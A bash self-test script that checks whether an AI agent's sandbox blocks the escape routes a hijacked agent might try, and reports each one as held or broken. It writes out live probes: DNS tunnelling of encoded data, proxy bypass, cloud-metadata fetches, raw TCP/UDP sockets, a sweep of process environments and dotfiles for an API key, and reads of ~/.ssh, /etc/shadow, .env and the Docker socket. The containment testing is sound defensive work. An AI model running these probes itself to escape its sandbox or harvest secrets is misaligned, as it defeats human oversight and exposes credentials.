#!/bin/bash
# What a hijacked agent would try, road by road. Each line says what should happen and what did; the exit code is 0 when all held.
failed=0

row() { # ROAD EXPECTED(open|closed) HAPPENED DETAIL
    local mark='held'
    [ "$2" = "$3" ] || { mark='BROKEN'; failed=$((failed + 1)); }
    printf '%-52s %-7s %-7s %-7s %s\n' "$1" "$2" "$3" "$mark" "${4:0:70}"
}

# try EXPECTED ROAD COMMAND…: open when the command succeeds
try() {
    local expected=$1 road=$2 output happened=closed
    shift 2
    output=$("$@" 2>&1) && happened=open
    row "$road" "$expected" "$happened" "$(tail -n 1 <<<"$output" | tr -d '\r')"
}

fetch() { curl -sS --fail-with-body --max-time 5 "$@"; }
answers() { local answer; answer=$(dig +short +time=2 +tries=1 "$@" 2>/dev/null | grep -v '^;'); [ -n "$answer" ] && echo "$answer"; }
sends_udp() { exec 3<>/dev/udp/192.0.2.1/9999 && echo hello >&3 && echo hello >&3; }
look_for_key() { { env; cat /proc/*/environ /etc/* "$HOME"/.* /workspace/* /workspace/.[!.]* 2>/dev/null; } | tr '\0' '\n' | grep -a -o -m1 'gh-demo-key-[a-z0-9]*'; }
finds() { [ -e "$1" ] && head -c 60 "$1"; }

printf '%-52s %-7s %-7s %-7s %s\n' 'road' 'should' 'did' 'verdict' 'what the agent saw'
printf -- '-%.0s' {1..110}; echo

try open   'DNS: an allowed name'                         answers allowed.demo.test
try closed 'DNS: a blocked name'                          answers blocked.demo.test
try closed 'DNS: data in a label, asked as TXT'           answers TXT aGVsbG8gd29ybGQ.exfil.demo.test
try closed 'DNS: straight to 8.8.8.8'                     answers @8.8.8.8 blocked.demo.test
try open   'HTTPS: an allowed host, through the proxy'    fetch https://allowed.demo.test/
try open   'HTTPS: an allowed host, ignoring the proxy'   fetch --noproxy '*' https://allowed.demo.test/
try closed 'HTTPS: a blocked host, through the proxy'     fetch https://blocked.demo.test/
try closed 'HTTPS: a blocked host, ignoring the proxy'    fetch --noproxy '*' https://blocked.demo.test/
try closed 'HTTPS: allowed name, other address'           fetch --noproxy '*' -k --connect-to allowed.demo.test:443:1.2.3.4:443 https://allowed.demo.test/
try closed 'HTTPS: a raw address'                         fetch --noproxy '*' -k https://1.1.1.1/
try closed 'HTTP: a raw address, spelled as a number'     fetch http://16843009/
try closed 'HTTP: cloud metadata'                         fetch --noproxy '*' http://169.254.169.254/latest/meta-data/
try closed 'HTTPS: a raw IPv6 address'                    fetch --noproxy '*' -k 'https://[2606:4700:4700::1111]/'
try closed 'TCP: port 22 of an allowed host'              timeout 3 bash -c 'exec 3<>/dev/tcp/allowed.demo.test/22'
try closed 'TCP: a database on the host (127.0.0.1:5432)' timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432'
try closed 'UDP: anywhere'                                sends_udp
try open   'secret: an allowed call, with a placeholder'  fetch -H "x-api-key: $DEMO_API_KEY" "$DEMO_URL/v1/whoami"
try closed 'secret: a call that no rule allows'           fetch -X POST -d '{}' "$DEMO_URL/v1/messages"
try closed 'secret: the key itself, anywhere in here'     look_for_key
try closed 'files: ~/.ssh'                                finds "$HOME/.ssh"
try closed 'files: /etc/shadow'                           finds /etc/shadow
try closed 'files: a hidden .env in the workspace'        finds /workspace/.env
try closed 'files: change an input'                       bash -c 'echo changed > /notes/notes.txt'
try open   'files: write into the workspace'              bash -c 'echo "written by the agent" > /workspace/result.txt && sed -i s/blue/green/ /workspace/settings.ini && rm /workspace/README.md && echo done'
try closed 'local: the Docker socket'                     finds /var/run/docker.sock
try closed 'local: the SSH agent'                         test -n "$SSH_AUTH_SOCK"
try closed 'rights: a new user namespace'                 unshare --user true
try closed 'rights: any capability'                       bash -c '! grep -q "CapBnd:.*0000000000000000" /proc/self/status'
try closed 'rights: being root'                           test "$(id -u)" = 0

echo
if [ "$failed" = 0 ]; then echo 'Everything held.'; else echo "$failed did not hold."; fi
exit $((failed > 0))
